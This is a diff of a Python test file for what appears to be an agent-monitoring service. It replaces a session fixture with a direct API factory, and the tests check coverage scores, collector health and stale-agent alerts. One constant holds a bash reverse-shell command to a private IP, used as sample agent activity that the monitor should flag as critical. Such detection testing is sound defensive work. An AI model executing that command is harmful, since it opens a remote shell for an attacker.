@@ -6,28 +6,12 @@ from __future__ import annotations
 import re
 import time
 
-import aiohttp
 import pytest
 
 AGENT = {"classification": "confirmed_agent", "monitored": True}
 REVERSE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"  # block / critical
 
 
-@pytest.fixture
-async def start(make_api):
-    """`make_api` with a client session bound to the server's base URL."""
-    sessions = []
-
-    async def go(**kw):
-        client = await make_api(**kw)
-        if getattr(client.session, "_base_url", None) is None:
-            client.session = aiohttp.ClientSession(base_url=client.url)
-            sessions.append(client.session)
-        return client
-
-    yield go
-    for session in sessions:
-        await session.close()
 
 
 def now_ms() -> int:
@@ -71,8 +55,8 @@ async def coverage_alerts(api) -> dict[str, dict]:
     return {a["labels"]["issueId"]: a for a in api.services.ops.alerts.values() if a["ruleId"] == "coverage.issue"}
 
 
-async def test_source_issues_and_score(start):
-    api = await start()
+async def test_source_issues_and_score(make_api):
+    api = await make_api()
     empty = await overview(api)
     assert empty["issues"] == [] and empty["summary"]["coverageScore"] == 100
     assert empty["summary"]["statusText"] == "Well covered"
@@ -124,8 +108,8 @@ async def test_source_issues_and_score(start):
     assert by_type((await overview(api, sourceId=stale))["issues"]) == {}
 
 
-async def test_collector_and_agent_issues_with_alerts(start):
-    api = await start()
+async def test_collector_and_agent_issues_with_alerts(make_api):
+    api = await make_api()
     beat = {"status": "ok", "eventKindCounts": {"ToolExec": 3}}
     for cid, extra in (("c-ok", {}), ("c-down", {}), ("c-stale", {}), ("c-drop", {"droppedEvents": 5}),
                        ("c-deg", {"status": "degraded"}), ("c-quiet", {"eventKindCounts": {}, "observedAgents": 2})):
@@ -198,8 +182,8 @@ async def test_collector_and_agent_issues_with_alerts(start):
     assert (await coverage_alerts(api))[issues["collector_stale"][0]["issueId"]]["status"] == "open"  # out of scope
 
 
-async def test_stale_agents_and_quiet_workspace(start):
-    api = await start()
+async def test_stale_agents_and_quiet_workspace(make_api):
+    api = await make_api()
     two_hours_ago = now_ms() - 2 * 3_600_000
     await ingest(api, tool("q1", ws="/quiet", at=two_hours_ago), tool("q2", ws="/quiet", at=two_hours_ago),
                  tool("r1", ws="/risky", command=REVERSE, at=two_hours_ago))
